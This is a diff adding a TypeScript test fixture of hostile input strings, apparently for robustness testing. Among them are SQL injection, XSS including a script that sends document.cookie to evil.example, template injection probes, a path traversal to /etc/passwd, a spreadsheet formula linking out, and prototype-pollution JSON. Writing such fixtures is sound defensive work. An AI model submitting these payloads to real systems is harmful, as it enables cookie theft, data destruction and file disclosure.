@@ -1,0 +1,26 @@
+/** Texts that have broken systems before, by what they aim at. */
+export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
+  SQL: `'; drop table one_thing_case; --`,
+  'SQL with a comment': `x'/**/union/**/select/**/*/**/from/**/person--`,
+  'patterns of LIKE': '%_%\\',
+  HTML: '<img src=x onerror=alert(1)>',
+  'a script': '</script><script>fetch("//evil.example/"+document.cookie)</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template for whoever would fill it
+  'a template': '${7*7}{{7*7}}<%= 7*7 %>#{7*7}',
+  'a path': '../../../../etc/passwd',
+  'a formula': '=HYPERLINK("http://evil.example","x")',
+  NUL: 'a\u0000b',
+  'control characters': '\u0001\u0008\u001b[31m\u007f\u0085\r\n',
+  'half a character': 'x\ud83dy',
+  'writing directions': '\u202eabc\u2066\u2069\ufeff\u200b',
+  'combining marks': `z${'\u0301'.repeat(300)}`,
+  'full width': '１２３ＡＢＣ',
+  emoji: '👨‍👩‍👧‍👦🏳️‍🌈',
+  'a long text': '长'.repeat(20_000),
+  JSON: '{"$ne": null, "__proto__": {"admin": true}}',
+  'a name of JavaScript': 'constructor',
+  'another one': '__proto__',
+  'a number': '1e309',
+  nothing: '',
+  blanks: ' \t\u3000\u00a0',
+};
